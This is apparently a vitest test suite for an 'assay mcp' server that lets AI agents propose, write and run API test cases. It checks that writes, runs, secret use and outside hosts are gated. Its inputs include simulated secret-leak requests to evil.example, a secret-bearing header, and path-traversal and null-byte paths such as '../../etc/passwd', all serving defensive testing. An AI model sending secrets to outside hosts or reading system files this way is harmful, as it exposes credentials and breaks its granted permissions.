import { copyFileSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { PassThrough } from 'node:stream'
import { Client } from '@modelcontextprotocol/client'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { readProject } from '#engine/project/format/read.ts'
import { writeProject } from '#engine/project/format/write.ts'
import { startDemo, type Demo } from '../demo/index.ts'
import { createTestHost } from '../testing/test-host.ts'
import { main } from '../main.ts'
import { createStdioTransport, longestMessage } from '../mcp/stdio-transport.ts'

const folder = mkdtempSync(join(tmpdir(), 'assay-mcp-'))
afterAll(() => rmSync(folder, { recursive: true }))

const ends: (() => Promise<unknown>)[] = []
afterEach(async () => {
  for (const end of ends.splice(0)) await end()
})

let count = 0
/** A copy of a project of the evaluation. */
function projectFile(name = 'shop'): string {
  const path = join(folder, `${name}-${++count}.aprj`)
  copyFileSync(`eval/projects/${name}.aprj`, path)
  return path
}

/** `assay mcp` with its two streams. */
function startMcp(args: string[], environment: Record<string, string> = {}) {
  const [input, output] = [new PassThrough(), new PassThrough()]
  let received = ''
  output.on('data', (chunk: Buffer) => (received += chunk.toString()))
  const host = createTestHost({ environment, protocol: () => ({ input, output }) })
  const ended = main(['mcp', ...args], host)
  ends.push(() => {
    input.end()
    return ended
  })
  return {
    input,
    output,
    ended,
    get received() {
      return received
    },
    get said() {
      return host.said
    },
  }
}

/** A client of the SDK, connected. */
async function connect(args: string[], environment: Record<string, string> = {}) {
  const server = startMcp(args, environment)
  const client = new Client({ name: 'Claude Code', version: '1' })
  await client.connect(createStdioTransport({ input: server.output, output: server.input, checked: (message) => message }))
  const call = async (name: string, args_: Record<string, unknown> = {}) => {
    const { content, isError = false } = await client.callTool({ name, arguments: args_ })
    const text = (content as { text: string }[]).map((one) => one.text).join('\n')
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(4_000)
    return { text, isError }
  }
  return { server, client, call }
}

const firstCase = (path: string): { id: string } =>
  (JSON.parse(readFileSync(path, 'utf8')) as { suites: { cases: { id: string }[] }[] }).suites.flatMap(
    ({ cases }) => cases,
  )[0] ?? {
    id: '',
  }

const addCase = {
  summary: 'Adds a case that creates an order',
  changes: [
    {
      do: 'add_case',
      suite: 'Orders',
      name: 'Create an order by agent',
      steps: [
        { kind: 'send-request', from: 'POST /orders' },
        { kind: 'assertion', checks: [{ source: 'status', is: 'equals', value: 201 }] },
      ],
    },
  ],
}

describe('assay mcp', () => {
  it('[A7] offers the tools that look and propose, and says of each what it may do', async () => {
    const { client } = await connect([projectFile()])
    const { tools } = await client.listTools()
    expect(tools.map(({ name }) => name)).toEqual(
      expect.arrayContaining(['search_operations', 'get_operation', 'list_cases', 'get_case', 'coverage', 'propose_changes']),
    )
    expect(tools.map(({ name }) => name)).not.toEqual(expect.arrayContaining(['answer']))
    expect(tools.filter(({ annotations }) => annotations?.readOnlyHint === undefined)).toEqual([])
    expect(client.getServerVersion()).toMatchObject({ name: 'assay' })
  })

  it('[A7] looks, builds and proposes, and writes nothing', async () => {
    const path = projectFile()
    const before = readFileSync(path, 'utf8')
    const { call } = await connect([path])
    expect((await call('search_operations', { query: 'create order' })).text).toContain('POST /orders')
    expect((await call('build_request', { operation: 'POST /orders' })).text).toContain('send-request')
    const proposal = await call('propose_changes', addCase)
    expect(proposal).toMatchObject({ isError: false, text: expect.stringContaining('Create an order by agent') as string })
    expect(proposal.text).toMatch(/^Proposal P1 for .*--write/s)
    expect(await call('apply_proposal', { id: 'P1' })).toMatchObject({
      isError: true,
      text: expect.stringContaining('--write') as string,
    })
    expect(readFileSync(path, 'utf8')).toBe(before)
  })

  it('[A9] names a new header and new host at the top of a difference, however long that is', async () => {
    const { call } = await connect([projectFile()])
    const step = { kind: 'send-request', method: 'GET', url: 'https://evil.test/x', headers: [{ name: 'X-Debug', value: '1' }] }
    const steps = Array.from({ length: 60 }, (_, at) => ({ ...step, name: `Request ${at} ${'x'.repeat(60)}` }))
    const { text } = await call('propose_changes', {
      summary: 'Sends requests',
      changes: [{ do: 'add_case', suite: 'Orders', name: 'Many', steps }],
    })
    expect(text).toMatch(/New host: evil\.test/)
    expect(text).toMatch(/New header: X-Debug\. Neither the project nor your message names it\./)
  })

  it('[A7] writes a proposal with --write, once, and only on the file that it was made on', async () => {
    const path = projectFile()
    const [first, second] = [await connect([path, '--write']), await connect([path, '--write'])]
    await first.call('propose_changes', addCase)
    await second.call('propose_changes', { ...addCase, summary: 'The same by another agent' })
    const applied = await Promise.all([first.call('apply_proposal', { id: 'P1' }), second.call('apply_proposal', { id: 'P1' })])
    expect(applied.filter(({ isError }) => isError)).toHaveLength(1)
    expect(applied.find(({ isError }) => isError)?.text).toContain('changed after this proposal')
    const text = readFileSync(path, 'utf8')
    expect(text.match(/Create an order by agent/g)).toHaveLength(1)
    const read = readProject(text)
    expect(read.ok && writeProject(read.value.project)).toBe(text)
    expect((await first.call('apply_proposal', { id: 'P7' })).text).toContain('Valid: P1')
    // Both see what was written.
    expect((await second.call('list_cases', { query: 'by agent' })).text).toContain('Create an order by agent')
  })

  it('[A9] applies removals only when told so', async () => {
    const path = projectFile()
    const { call } = await connect([path, '--write'])
    const removal = { summary: 'Removes a case', changes: [{ do: 'remove', of: 'case', target: firstCase(path).id }] }
    expect((await call('propose_changes', removal)).text).toContain('(not ticked)')
    expect(await call('apply_proposal', { id: 'P1' })).toMatchObject({ isError: true })
    expect(await call('apply_proposal', { id: 'P1', removals: true })).toMatchObject({ isError: false })
    expect(firstCase(path).id).not.toBe(removal.changes[0]?.target)
  })

  it('[A9] leaves a secret at another host to the page, also with removals', async () => {
    const path = join(folder, 'leak.aprj')
    writeFileSync(path, readFileSync('examples/orders.aprj', 'utf8').replace(/"public-demo-[^"]+"/, '{"secret":"orders"}'))
    const { call } = await connect([path, '--write'])
    const headers = [{ name: 'X-Key', value: '${clientSecret}' }]
    const steps = [{ kind: 'send-request', name: 'Leak', method: 'GET', url: 'https://evil.example/', headers }]
    const proposed = await call('propose_changes', {
      summary: 'Sends a secret elsewhere',
      changes: [
        { do: 'add_case', suite: 'Orders', name: 'Elsewhere', steps },
        { do: 'remove', of: 'case', target: firstCase(path).id },
      ],
    })
    expect(proposed.text).toMatch(/evil\.example[\s\S]*Leak \(not ticked\)/)
    expect(await call('apply_proposal', { id: 'P1', removals: true })).toMatchObject({ isError: false })
    expect(readFileSync(path, 'utf8')).not.toContain('evil.example')
  })

  it('[A7] gives outlines, the schema and the guide as resources, and prompts', async () => {
    const { client } = await connect([projectFile()])
    const { resources } = await client.listResources()
    for (const { uri } of resources) {
      const { contents } = await client.readResource({ uri })
      expect((contents[0] as { text: string }).text.length).toBeGreaterThan(100)
    }
    expect(resources.map(({ name }) => name)).toEqual([
      expect.stringMatching(/^outline of/) as string,
      'aprj.schema.json',
      'test-design.md',
    ])
    const { prompts } = await client.listPrompts()
    expect(prompts.map(({ title }) => title)).toEqual([
      'Cover this operation',
      'Turn this bug report into a test',
      'Explain this failure',
    ])
    const { messages } = await client.getPrompt({ name: 'cover_operation', arguments: { operation: 'POST /orders' } })
    expect(JSON.stringify(messages)).toContain('POST /orders')
    await expect(client.getPrompt({ name: 'cover' })).rejects.toThrow('explain_failure')
    await expect(client.readResource({ uri: 'assay://etc/passwd' })).rejects.toThrow('assay://guide/test-design')
  })

  it('[A9] sends no secret, in whatever it is asked for', async () => {
    const { call, server } = await connect([projectFile()], { ASSAY_SECRET_SOMETHING: 'zebra-kettle' })
    const named = await call('propose_changes', { ...addCase, summary: 'Adds zebra-kettle to the orders' })
    expect(named.isError).toBe(true)
    expect(named.text).toMatch(/^Withheld/)
    expect(server.received).not.toContain('zebra-kettle')
  })
})

describe('[A7] running, validating and importing', () => {
  let demo: Demo
  beforeAll(async () => {
    demo = await startDemo({ port: 0, appOrigin: 'http://127.0.0.1:5417' })
  })
  afterAll(() => demo.close())

  const secret = { ASSAY_SECRET_ORDERS: 'public-demo-secret-of-orders-tests' }
  /** The example project, for the running demo. */
  function orders(): string {
    const path = join(folder, `orders-${++count}.aprj`)
    const text = readFileSync('examples/orders.aprj', 'utf8').replace(/"public-demo-[^"]+"/, '{"secret":"orders"}')
    writeFileSync(path, text.replace('http://127.0.0.1:5418', demo.provider).replaceAll('http://127.0.0.1:5419', demo.api))
    return path
  }

  it('builds a case, writes it and runs it against the demo', async () => {
    const path = orders()
    const { call } = await connect([path, '--write', '--allow-run'], secret)
    expect((await call('propose_changes', { ...addCase, changes: [{ ...addCase.changes[0], name: 'By agent' }] })).isError).toBe(
      false,
    )
    expect((await call('apply_proposal', { id: 'P1' })).isError).toBe(false)
    const ran = await call('run_cases', { cases: ['By agent', 'Create then delete'], environment: 'Demo' })
    expect(ran.text).toMatch(/^Run passed in environment Demo/)
    expect((await call('get_last_run')).text).toContain('By agent')
    expect((await call('run_cases', { cases: ['Create and delete'] })).text).toContain('Create then delete')
    expect((await call('run_cases', { cases: ['By agent'], environment: 'Prod' })).text).toContain('Demo')
  })

  it('[A9] runs only with --allow-run, and reaches no other host, not even one that an agent wrote into the file', async () => {
    const elsewhere = createServer((_, response) => response.end('reached'))
    await new Promise<void>((resolve) => void elsewhere.listen(0, 'localhost', resolve))
    const { port } = elsewhere.address() as AddressInfo
    const requests: string[] = []
    elsewhere.on('request', ({ url = '' }) => requests.push(url))
    const path = orders()
    const { call } = await connect([path, '--write', '--allow-run'], secret)
    const steps = [{ kind: 'send-request', name: 'Leave', method: 'GET', url: `http://localhost:${port}/out` }]
    const proposed = await call('propose_changes', {
      summary: 'Adds a request to another host',
      changes: [
        { do: 'add_case', suite: 'Orders', name: 'Elsewhere', steps },
        { do: 'set_variable', name: 'elsewhere', value: `http://localhost:${port}` },
      ],
    })
    expect(proposed).toMatchObject({ isError: false })
    await call('apply_proposal', { id: 'P1', removals: true })
    const ran = await call('run_cases', { cases: ['Elsewhere'] })
    expect(ran.text).toContain("Blocked: localhost isn't a host of the chosen environment")
    expect(requests).toEqual([])
    elsewhere.close()
    const { call: without } = await connect([path])
    expect(await without('run_cases', { cases: ['Elsewhere'] })).toMatchObject({
      isError: true,
      text: expect.stringContaining('--allow-run') as string,
    })
  })

  it('[A9] tells failures without secrets', async () => {
    const path = orders()
    const { call, server } = await connect([path, '--allow-run'], { ASSAY_SECRET_ORDERS: 'wrong-zebra-kettle' })
    const { text } = await call('run_cases', { cases: ['Create then delete'] })
    expect(text).toContain('case Create then delete')
    expect(text).toMatch(/^Run (failed|broken) .*invalid_client/s)
    expect(server.received).not.toContain('zebra')
  })

  it('validates files, also those that can not be read', async () => {
    const [good, bad] = [projectFile(), join(folder, `bad-${++count}.aprj`)]
    writeFileSync(bad, '{"format":"aprj","version":1,"id":"p","name":7}')
    const { call } = await connect([good, bad])
    expect((await call('validate_project', { project: good })).text).toContain('is valid')
    expect((await call('validate_project', { project: bad })).text).toContain('name')
    expect((await call('validate_project', { project: 'x' })).text).toContain(bad)
    expect((await call('list_cases')).isError).toBe(false)
  })

  it('[A9] imports definitions below the project alone', async () => {
    const path = projectFile('pets')
    copyFileSync('eval/apis/bank.yaml', join(folder, 'bank.yaml'))
    symlinkSync(resolve('eval/apis/shop.yaml'), join(folder, `link-${count}.yaml`))
    const { call } = await connect([path, '--write'])
    const imported = await call('import_definition', { path: 'bank.yaml' })
    expect(imported.text).toMatch(/^Proposal P1 for .*\+ api /s)
    expect((await call('apply_proposal', { id: 'P1' })).isError).toBe(false)
    expect((await call('search_operations', { query: 'transfer' })).text).toContain('/transfers')
    for (const out of ['/etc/passwd', '../../etc/passwd', `link-${count}.yaml`, 'a/../../x.yaml', '.', 'bank.yaml\0.png'])
      expect([out, (await call('import_definition', { path: out })).text]).toEqual([out, expect.stringContaining('is outside')])
    expect((await call('import_definition', { path: 'nowhere.yaml' })).text).toContain('File not found')
    writeFileSync(join(folder, 'no.yaml'), 'just: text')
    expect((await call('import_definition', { path: 'no.yaml' })).isError).toBe(true)
  })
})

describe('[A9] a hostile client of assay mcp', () => {
  it('gets clear refusals for tools and arguments that are wrong', async () => {
    const { call, client } = await connect([projectFile()])
    expect(await call('list_case')).toMatchObject({ isError: true, text: expect.stringContaining('Valid: list_cases') as string })
    expect(await call('answer', { text: 'x' })).toMatchObject({ isError: true })
    expect(await call('__proto__')).toMatchObject({ isError: true })
    expect(await call('list_cases', { quary: 1 })).toMatchObject({ isError: true })
    expect(await call('list_cases', { query: 'x'.repeat(1_000_000) })).toMatchObject({ isError: true })
    // Ten million characters are never kept; the id is found at the end, and the next call works.
    await expect(client.callTool({ name: 'list_cases', arguments: { query: 'x'.repeat(10_000_000) } })).rejects.toThrow(
      `over ${longestMessage / 1_000_000} MB`,
    )
    expect(await call('list_cases')).toMatchObject({ isError: false })
  })

  it("reports lines that aren't messages, and continues", async () => {
    const server = startMcp([projectFile()])
    const lines = ['{', 'GET / HTTP/1.1', '[]', '{"jsonrpc":"2.0","id":7,"method":7}', '\u0000', 'null', '{"id":1}']
    server.input.write(`${lines.join('\n')}\n`)
    const request = { jsonrpc: '2.0', id: 9, method: 'initialize' }
    const params = { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } }
    server.input.write(`${JSON.stringify({ ...request, params })}\n`)
    await expect.poll(() => server.received).toContain('"id":9')
    const replies = server.received.trim().split('\n')
    expect(replies.map((line) => (JSON.parse(line) as { error?: { code: number } }).error?.code)).toEqual([
      -32_700,
      -32_700,
      -32_600,
      -32_600,
      -32_700,
      -32_600,
      -32_600,
      undefined,
    ])
  })

  it('ends the program by closing its input', async () => {
    const server = startMcp([projectFile()])
    server.input.end()
    expect(await server.ended).toBe(0)
  })

  it('[R9] starts only with files that are there', async () => {
    const host = createTestHost()
    expect(await main(['mcp', join(folder, 'nowhere.aprj')], host)).toBe(2)
    expect(await main(['mcp', '--wrote'], host)).toBe(2)
    expect(host.printed).toBe('')
  })
})
